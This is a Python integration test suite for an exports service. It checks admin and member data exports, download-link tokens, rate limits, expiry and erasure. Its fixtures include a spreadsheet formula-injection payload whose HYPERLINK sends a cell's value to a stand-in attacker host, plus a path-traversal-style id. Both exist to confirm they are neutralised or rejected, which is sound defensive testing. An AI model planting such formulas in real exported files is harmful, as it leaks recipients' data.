"""The exports service over a real NATS server with identity, hubs, meetups,
referrals and webhooks (one test: starting them and a network with a meetup and a
referral is most of its time): a small network exported by its admin (every file present,
row counts as written, CSV and NDJSON that parse; mission cards, date polls
and every vote, workshop proposals, invitations without their link, webhook
endpoints without their secret; a topic written as a formula neutralised), a
member's own export (their data only: their cards, their own votes, their
proposals; never another member's address), QUEUED → RUNNING →
READY, links that expire or are tampered with, other networks' exports and
links, repeated starts and the daily limits (a member flooding ME exports
spends their own budget and their network members' shared one, never the
admins' and API keys'; NETWORK exports made first), expiry after 24 hours, and
identity's erasure (an event as identity would publish it) deleting every
archive of the network."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from dataclasses import dataclass
from datetime import timedelta
from typing import Any

import msgspec
import pytest
import sqlalchemy as sa

from services.events import contract as ec
from services.exports import contract as c
from services.exports import views
from services.exports.archive import FILES
from services.exports.job import Options
from services.exports.service import build
from services.hubs import contract as hc
from services.identity import contract as idc
from services.referrals import contract as rc
from services.runtime.bus import Bus
from services.runtime.clock import MovableClock
from services.runtime.errors import (
    Forbidden,
    InvalidInput,
    InvalidToken,
    NotFound,
    RuleViolation,
    Unauthenticated,
)
from services.runtime.host import ServiceHost
from services.runtime.messages import Actor
from services.runtime.stream import CloudEvent, json_encoder
from services.runtime.tenancy import RequestContext
from services.webhooks import contract as wc
from tests.support.identity import add_member, as_member, card, create_network
from tests.support.meetups import IN_11E, OPEN_RULES, VENUE, VOLTAIRE, local
from tests.support.services import Services
from tests.support.waiting import eventually

pytestmark = pytest.mark.asyncio


@dataclass
class Net:
    tenant: idc.Tenant
    admin: idc.Session
    ana: idc.Session
    bob: idc.Session
    hub: hc.Hub
    poll: ec.DatePoll


FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Open me")'


async def small_network(bus: Bus, clock: MovableClock, referrals: ServiceHost, slug: str) -> Net:
    """An admin and two members in one open hub; a lunch both members
    attended, closed (each drew a mission card); Ana referred Bob an outside
    prospect; a date poll both voted on; Ana proposed a workshop whose topic
    is a formula; an invitation pending; a webhook endpoint."""
    from services.referrals.views import directory

    tenant, admin = await create_network(bus, slug, f"admin@{slug}.example", "Admin")
    hub = await bus.request(
        hc.CreateHub(name="Voltaire", kind="neighbourhood", area=VOLTAIRE, rules=OPEN_RULES),
        as_member(admin),
    )
    people = []
    for name, activity in (("Ana", "plumber"), ("Bob", "baker")):
        s = await add_member(
            bus,
            tenant.tenant_id,
            f"{name.lower()}@{slug}.example",
            card(name, activity, work=IN_11E),
        )
        await bus.request(hc.JoinHub(hub_id=hub.hub_id), as_member(s))
        people.append(s)
    ana, bob = people
    wanted = {admin.member_id, ana.member_id, bob.member_id}

    def known() -> bool:
        with referrals.engine.connect() as conn:
            return wanted <= set(directory.members_of(conn, tenant.tenant_id, hub.hub_id))

    await eventually(known)
    meetup = await bus.request(
        ec.ScheduleMeetup(
            hub_id=hub.hub_id, local_start=local(clock.now(), 1), venue=VENUE, title="Lunch"
        ),
        as_member(admin),
    )
    clock.advance(meetup.starts_at - clock.now() + timedelta(minutes=5))
    await bus.request(
        ec.RecordAttendance(
            meetup_id=meetup.meetup_id,
            entries=[
                ec.AttendanceRecordInput(member_id=m.member_id, status="present") for m in people
            ],
        ),
        as_member(admin),
    )
    await bus.request(
        ec.CloseMeetup(meetup_id=meetup.meetup_id, next_local_start=local(clock.now(), 7)),
        as_member(admin),
    )
    poll = await bus.request(
        ec.OpenDatePoll(
            hub_id=hub.hub_id,
            title="Afterwork",
            slots=[local(clock.now(), 10, 19), local(clock.now(), 11, 19)],
            venue=VENUE,
        ),
        as_member(admin),
    )
    first, second = (s.slot_id for s in poll.slots)
    ballots: list[tuple[idc.Session, dict[str, ec.Vote]]] = [
        (ana, {first: "yes", second: "no"}),
        (bob, {first: "if_need_be"}),
    ]
    for who, votes in ballots:
        await bus.request(ec.VoteOnPoll(poll_id=poll.poll_id, votes=votes), as_member(who))
    await bus.request(
        ec.ProposeWorkshop(hub_id=hub.hub_id, topic=FORMULA, description="-2+3 @SUM(A1)"),
        as_member(ana),
    )
    await bus.request(idc.InviteMember(email=f"newcomer@{slug}.example"), as_member(admin))
    await bus.request(
        wc.CreateEndpoint(
            url="http://127.0.0.1:9/hook", event_types=["quartier.hubs."], description="crm"
        ),
        as_member(admin),
    )
    await bus.request(
        rc.GiveReferral(
            receiver_id=bob.member_id,
            about="an oven to fix",
            warmth=4,
            prospect=rc.Prospect(name="Martin", email="martin@outside.example"),
        ),
        as_member(ana),
    )
    await bus.request(
        rc.LogOneToOne(other_id=bob.member_id, met_on=clock.now().date()), as_member(ana)
    )
    await bus.request(
        rc.PostNeed(activity_codes=["baker"], description="bread for a launch"), as_member(ana)
    )
    return Net(tenant, admin, ana, bob, hub, poll)


async def started_host(host: ServiceHost) -> ServiceHost:
    await host.start()
    return host


async def ready(bus: Bus, ctx: RequestContext, export_id: str) -> tuple[c.Export, list[str]]:
    """Wait until the export is ready; the statuses seen on the way."""
    seen: list[str] = []

    async def check() -> c.Export | None:
        found = await bus.request(c.GetExport(export_id=export_id), ctx)
        if not seen or seen[-1] != found.status:
            seen.append(found.status)
        return found if found.status in ("ready", "failed") else None

    return await eventually(check, timeout=60), seen


async def download(bus: Bus, export: c.Export, ctx: RequestContext | None = None) -> bytes:
    assert export.download_token
    data = b""
    index, count = 0, 1
    while index < count:
        chunk = await bus.request(
            c.GetArchiveChunk(export_id=export.export_id, token=export.download_token, index=index),
            ctx or RequestContext(),
        )
        data, count, index = data + chunk.data, chunk.count, index + 1
    assert len(data) == export.size
    return data


def files(archive: bytes) -> dict[str, list[Any]]:
    """Each data file's rows (CSV: dicts by header; NDJSON: objects), after
    checking that the manifest's row counts are the files'."""
    with zipfile.ZipFile(io.BytesIO(archive)) as z:
        names = set(z.namelist())
        manifest = json.loads(z.read("manifest.json"))
        assert "seconds" in manifest and "README.txt" in names
        assert names == {"README.txt", "manifest.json", *(f.name for f in FILES)}
        found: dict[str, list[Any]] = {}
        for entry in manifest["files"]:
            text = z.read(entry["name"]).decode()
            if entry["format"] == "csv":
                rows: list[Any] = list(csv.DictReader(io.StringIO(text, newline="")))
                assert text.splitlines()[0].split(",") == entry["columns"]
            else:
                rows = [json.loads(line) for line in text.splitlines()]
            assert len(rows) == entry["rows"], entry["name"]
            found[entry["name"]] = rows
        return found


async def test_a_network_export_a_members_own_and_an_erasure(
    services: Services, clock: MovableClock, client_bus: Bus
) -> None:
    referrals = await services.start("referrals")
    await services.start("webhooks")
    bus = client_bus
    net = await small_network(bus, clock, referrals, "x-pole")
    _, other_admin = await create_network(bus, "x-autre", "admin@x-autre.example")
    admin, ana, bob = as_member(net.admin), as_member(net.ana), as_member(net.bob)

    # a first replica runs no job: the exports stay queued until the second starts
    options = Options(network_per_day=3, own_per_day=1, members_per_day=2)
    standby = build(services.settings, clock=services.clock, options=options)
    standby.jobs.clear()
    try:
        await standby.start()
        started = await bus.request(c.StartExport(scope="network"), admin)
        assert (started.status, started.progress, started.download_token) == ("queued", 0.0, None)
        again = await bus.request(c.StartExport(scope="network"), admin)
        assert again.export_id == started.export_id  # a repeat answers the running one

        with pytest.raises(Unauthenticated):  # nobody signed in
            await bus.request(
                c.StartExport(scope="me"), RequestContext(tenant_id=net.tenant.tenant_id)
            )
        with pytest.raises(Forbidden):  # a member may not export the network
            await bus.request(c.StartExport(scope="network"), ana)
        for query in (rc.ListNetworkOneToOnes(), rc.ListNetworkNeeds()):  # referrals' own
            with pytest.raises(Forbidden):
                await bus.request(query, ana)
        with pytest.raises(InvalidInput):
            await bus.request(rc.ListNetworkNeeds(limit=51), admin)
        # events' own, for the network's export: tenant admins, paged, this network's polls
        with pytest.raises(Forbidden):
            await bus.request(ec.ListPollVotes(poll_id=net.poll.poll_id), ana)
        with pytest.raises(InvalidInput):
            await bus.request(ec.ListPollVotes(poll_id=net.poll.poll_id, limit=51), admin)
        for poll_id, who in (("no-such-poll", admin), (net.poll.poll_id, as_member(other_admin))):
            with pytest.raises(NotFound):
                await bus.request(ec.ListPollVotes(poll_id=poll_id), who)
        votes = await bus.request(ec.ListPollVotes(poll_id=net.poll.poll_id, limit=2), admin)
        assert (len(votes.items), votes.total) == (2, 3)
        with pytest.raises(NotFound):  # another network's admin does not see it
            await bus.request(c.GetExport(export_id=started.export_id), as_member(other_admin))
        with pytest.raises(NotFound):  # nor does a member
            await bus.request(c.GetExport(export_id=started.export_id), ana)
        with pytest.raises(NotFound):
            await bus.request(c.GetExport(export_id="../not-an-id"), admin)
        mine = await bus.request(c.StartExport(scope="me"), ana)
        await bus.request(c.StartExport(scope="me"), bob)
        with pytest.raises(RuleViolation) as limit:  # the members' third ME of the day
            await bus.request(c.StartExport(scope="me"), admin)
        assert limit.value.rule == "max_members_exports"
        page = await bus.request(c.ListExports(), ana)
        assert [x.export_id for x in page.items] == [mine.export_id]
        assert (await bus.request(c.ListExports(), admin)).total == 1  # the network's
    finally:
        await standby.stop()
    services.hosts["exports"] = await started_host(
        build(services.settings, clock=services.clock, options=options)
    )

    export, seen = await ready(bus, admin, started.export_id)
    assert export.status == "ready" and export.progress == 1.0, export.error
    assert seen[-1] == "ready" and set(seen) <= {"queued", "running", "ready"}
    assert export.started_at is not None and export.requested_at <= export.started_at
    assert export.ready_at is not None and export.expires_at == export.ready_at + timedelta(
        hours=24
    )

    rows = files(await download(bus, export))
    counts = {name: len(r) for name, r in rows.items()}
    assert counts["members.csv"] == 3 and counts["hubs.ndjson"] == 1
    assert counts["hub_members.csv"] == 3 and counts["hub_rules_history.ndjson"] == 1
    assert counts["meetups.ndjson"] == 2 and counts["meetup_attendance.csv"] == 2  # and the next
    assert counts["mission_cards.csv"] == 2 and counts["date_polls.ndjson"] == 1
    assert counts["date_poll_votes.csv"] == 3 and counts["workshop_proposals.csv"] == 1
    assert counts["invitations.csv"] == 4 and counts["webhook_endpoints.csv"] == 1
    assert counts["referrals.ndjson"] == 1 and counts["hub_engagement.ndjson"] == 1
    assert counts["one_to_ones.csv"] == 1 and counts["needs.ndjson"] == 1
    assert counts["reports.ndjson"] == 1 + 1 + 3  # the network, the hub, each member
    assert {r["email"] for r in rows["members.csv"]} == {
        "admin@x-pole.example",
        "ana@x-pole.example",
        "bob@x-pole.example",
    }
    assert rows["referrals.ndjson"][0]["prospect"]["email"] == "martin@outside.example"
    assert {r["member_id"] for r in rows["mission_cards.csv"]} == {
        net.ana.member_id,
        net.bob.member_id,
    }
    [poll] = rows["date_polls.ndjson"]
    assert poll["voters"] == 2 and "my_votes" not in poll
    assert sorted((r["member_id"], r["vote"]) for r in rows["date_poll_votes.csv"]) == sorted(
        [(net.ana.member_id, "yes"), (net.ana.member_id, "no"), (net.bob.member_id, "if_need_be")]
    )
    [proposal] = rows["workshop_proposals.csv"]  # neutralised for spreadsheets (OWASP)
    assert proposal["topic"] == "'" + FORMULA and proposal["description"] == "'-2+3 @SUM(A1)"
    assert sorted((r["email"].split("@")[0], r["status"]) for r in rows["invitations.csv"]) == [
        ("admin", "accepted"),  # every member joined by one
        ("ana", "accepted"),
        ("bob", "accepted"),
        ("newcomer", "pending"),
    ]
    [endpoint] = rows["webhook_endpoints.csv"]
    assert endpoint["url"] == "http://127.0.0.1:9/hook" and endpoint["description"] == "crm"
    assert json.loads(endpoint["event_types"]) == ["quartier.hubs."]
    assert endpoint["enabled"] == "true"
    with zipfile.ZipFile(io.BytesIO(await download(bus, export))) as z:
        raw = b"".join(z.read(n) for n in z.namelist())
        assert b"token" not in z.read("invitations.csv")
    assert b"whsec_" not in raw

    # a member's own export: theirs only, never another member's address
    own, _ = await ready(bus, ana, mine.export_id)
    archive = await download(bus, own)
    own_rows = files(archive)
    assert [r["member_id"] for r in own_rows["members.csv"]] == [net.ana.member_id]
    assert own_rows["members.csv"][0]["email"] == "ana@x-pole.example"
    assert [r["member_id"] for r in own_rows["hub_members.csv"]] == [net.ana.member_id]
    assert [r["member_id"] for r in own_rows["meetup_attendance.csv"]] == [net.ana.member_id]
    assert len(own_rows["referrals.ndjson"]) == 1 and len(own_rows["reports.ndjson"]) == 1
    assert len(own_rows["one_to_ones.csv"]) == 1 and len(own_rows["needs.ndjson"]) == 1
    assert [r["member_id"] for r in own_rows["mission_cards.csv"]] == [net.ana.member_id]
    assert sorted(r["vote"] for r in own_rows["date_poll_votes.csv"]) == ["no", "yes"]
    assert {r["member_id"] for r in own_rows["date_poll_votes.csv"]} == {net.ana.member_id}
    assert len(own_rows["date_polls.ndjson"]) == 1
    assert [r["host_id"] for r in own_rows["workshop_proposals.csv"]] == [net.ana.member_id]
    assert own_rows["invitations.csv"] == [] and own_rows["webhook_endpoints.csv"] == []
    with zipfile.ZipFile(io.BytesIO(archive)) as z:
        everything = b"".join(z.read(n) for n in z.namelist())
    for address in (b"admin@x-pole", b"bob@x-pole", b"@x-autre"):
        assert address not in everything

    # links: tampered, for another export, another network's caller, expired
    token = export.download_token
    assert token is not None
    tampered = token[:-2] + ("AA" if token[-2:] != "AA" else "BB")
    for export_id, bad, ctx in (
        (export.export_id, tampered, RequestContext()),
        (own.export_id, token, RequestContext()),
        (export.export_id, token, as_member(other_admin)),
    ):
        with pytest.raises(InvalidToken):
            await bus.request(c.GetArchiveChunk(export_id=export_id, token=bad), ctx)
    clock.advance(timedelta(minutes=6))
    with pytest.raises(InvalidToken):
        await bus.request(
            c.GetArchiveChunk(export_id=export.export_id, token=token), RequestContext()
        )
    fresh = await bus.request(c.GetExport(export_id=export.export_id), admin)
    assert fresh.download_token and fresh.download_token != token
    assert (await download(bus, fresh))[:2] == b"PK"

    # 24 hours after it was ready the archive is gone
    clock.advance(timedelta(hours=24))

    async def expired() -> bool:
        found = await bus.request(c.GetExport(export_id=export.export_id), admin)
        return found.status == "expired" and found.download_token is None

    await eventually(expired)
    with pytest.raises(InvalidToken):  # no link outlives its archive
        await bus.request(
            c.GetArchiveChunk(export_id=export.export_id, token=fresh.download_token or ""),
            RequestContext(),
        )
    engine = services.hosts["exports"].engine
    with engine.connect() as conn:
        left = conn.execute(
            sa.select(views.chunks.c.n).where(views.chunks.c.export_id == export.export_id)
        ).all()
    assert left == []

    # identity's MemberErased (issue #10 item 7), as identity's relay would
    # publish it: every archive of the network goes, Ana's own too
    def stored() -> int:
        with engine.connect() as conn:
            query = sa.select(sa.func.count()).select_from(views.chunks)
            where = views.chunks.c.tenant_id == net.tenant.tenant_id
            return int(conn.execute(query.where(where)).scalar_one())

    again_started = await bus.request(c.StartExport(scope="me"), ana)  # the day is over
    own, _ = await ready(bus, ana, again_started.export_id)
    assert own.status == "ready" and stored() > 0
    event = CloudEvent(
        id="identity:999999999",
        source="quartier/identity",
        type="quartier.identity.MemberErased.v1",
        subject=net.bob.member_id,
        time=clock.now(),
        tenant=net.tenant.tenant_id,
        sequence=999_999_999,
        data=msgspec.Raw(
            json.dumps({"tenant_id": net.tenant.tenant_id, "member_id": net.bob.member_id}).encode()
        ),
    )
    subject = f"quartier.evt.{net.tenant.tenant_id}.identity.MemberErased"
    await bus.jetstream().publish(subject, json_encoder.encode(event))
    await eventually(lambda: stored() == 0)
    gone = await bus.request(c.GetExport(export_id=own.export_id), ana)
    assert gone.status == "expired" and gone.download_token is None
    with pytest.raises(NotFound):  # a link minted before the erasure finds nothing
        await bus.request(
            c.GetArchiveChunk(export_id=own.export_id, token=own.download_token or ""),
            RequestContext(),
        )


DAY = timedelta(hours=24)


def finish(host: ServiceHost, export_id: str) -> None:
    """As the job would once it is done with it (here it runs on no replica)."""
    e = views.exports.c
    with host.engine.begin() as conn:
        conn.execute(
            views.exports.update()
            .where(e.export_id == export_id)
            .values(status="failed", error="made elsewhere", active_key=None)
        )


def counted(host: ServiceHost, tenant_id: str, scope: str) -> int:
    e = views.exports.c
    with host.engine.connect() as conn:
        query = sa.select(sa.func.count()).where((e.tenant_id == tenant_id) & (e.scope == scope))
        return int(conn.execute(query).scalar_one())


def next_minute(clock: MovableClock) -> str:
    """A day from now, to the minute rounded up, as the refusals say it."""
    when = clock.now() + DAY
    up = when.replace(second=0, microsecond=0)
    return f"{up if up == when else up + timedelta(minutes=1):%Y-%m-%d %H:%M} UTC"


async def test_no_member_can_use_up_the_exports_the_networks_admins_and_keys_need(
    services: Services, clock: MovableClock, client_bus: Bus
) -> None:
    """The tryout's flood (a member starting ME exports again and again)
    spends that member's own budget only; several members together spend
    their shared one; the network's admins and API keys keep theirs, and
    another network is untouched. Network exports are made first."""
    await services.start("identity")
    bus = client_bus
    tenant, admin_session = await create_network(bus, "x-budget", "admin@x-budget.example")
    people = [
        await add_member(bus, tenant.tenant_id, f"{n}@x-budget.example", card(n.title(), "baker"))
        for n in ("ana", "bob", "cem")
    ]
    other, other_admin = await create_network(bus, "x-ailleurs", "admin@x-ailleurs.example")
    dan = await add_member(bus, other.tenant_id, "dan@x-ailleurs.example", card("Dan", "baker"))
    admin = as_member(admin_session)
    ana, bob, cem = (as_member(p) for p in people)
    key = RequestContext(tenant_id=tenant.tenant_id, actor=Actor(kind="service"))
    key_id = "0f9e5a52-3c1b-4b8e-9d55-2f6f0c8a7b10"

    # only the requests: no replica runs the job, so nothing is made meanwhile
    options = Options(network_per_day=3, own_per_day=3, members_per_day=5)
    host = build(services.settings, clock=services.clock, options=options)
    host.jobs.clear()
    services.hosts["exports"] = await started_host(host)

    # one member flooding ME: repeats answer the queued one, then their own budget ends
    first = await bus.request(c.StartExport(scope="me"), ana)
    for _ in range(5):
        assert (await bus.request(c.StartExport(scope="me"), ana)).export_id == first.export_id
    finish(host, first.export_id)
    for _ in range(2):
        finish(host, (await bus.request(c.StartExport(scope="me"), ana)).export_id)
    for _ in range(17):  # the tryout's 17 starts in 25 seconds
        with pytest.raises(RuleViolation) as refused:
            await bus.request(c.StartExport(scope="me"), ana)
        assert refused.value.rule == "max_own_exports"
        assert refused.value.message == (
            "you may start at most 3 exports of scope ME in 24 hours: "
            f"the next one may start from {next_minute(clock)}"
        )
    assert counted(host, tenant.tenant_id, "me") == 3  # the refusals started nothing

    # the network's admin and an API key are unaffected
    network = await bus.request(c.StartExport(scope="network"), admin)
    assert network.status == "queued" and network.scope == "network"
    by_key = await bus.request(c.StartExport(scope="network", api_key_id=key_id), key)
    assert by_key.export_id == network.export_id  # the one queued, as a repeat

    # several members: their shared budget (5) ends, whoever asks next
    finish(host, (await bus.request(c.StartExport(scope="me"), bob)).export_id)
    await bus.request(c.StartExport(scope="me"), cem)  # the fifth, left queued
    for who in (bob, admin):  # bob within his own 3, the admin asking their own
        with pytest.raises(RuleViolation) as refused:
            await bus.request(c.StartExport(scope="me"), who)
        assert refused.value.rule == "max_members_exports"
        assert refused.value.message == (
            "this network's members, all together, may start at most 5 exports of scope ME "
            f"in 24 hours: the next one may start from {next_minute(clock)}"
        )

    # ... and NETWORK exports still start, up to their own budget
    finish(host, network.export_id)
    finish(host, (await bus.request(c.StartExport(scope="network"), admin)).export_id)
    last = await bus.request(c.StartExport(scope="network", api_key_id=key_id), key)
    assert last.requested_by == "key:" + key_id.replace("-", "")
    finish(host, last.export_id)
    with pytest.raises(RuleViolation) as refused:
        await bus.request(c.StartExport(scope="network"), admin)
    assert refused.value.rule == "max_exports"
    assert refused.value.message.startswith(
        "a network may start at most 3 exports of scope NETWORK in 24 hours"
    )

    # another network, a minute later: neither budget was touched
    clock.advance(timedelta(minutes=1))
    theirs = [
        await bus.request(c.StartExport(scope=scope), who)
        for who, scope in ((as_member(dan), "me"), (as_member(other_admin), "network"))
    ]
    assert {(x.tenant_id, x.status) for x in theirs} == {(other.tenant_id, "queued")}

    # the job makes NETWORK exports first, then the oldest: Cem's ME, then Dan's
    exporter = host.context["exporter"]
    claimed = [await host.offload(exporter.claim_next) for _ in range(4)]
    assert [(r.tenant_id, r.scope) for r in claimed[:3]] == [
        (other.tenant_id, "network"),
        (tenant.tenant_id, "me"),
        (other.tenant_id, "me"),
    ]
    assert claimed[0].export_id == theirs[1].export_id and claimed[3] is None

    # a day later every budget is whole again
    clock.advance(DAY)
    for who, scope in ((ana, "me"), (admin, "network")):
        assert (await bus.request(c.StartExport(scope=scope), who)).status == "queued"
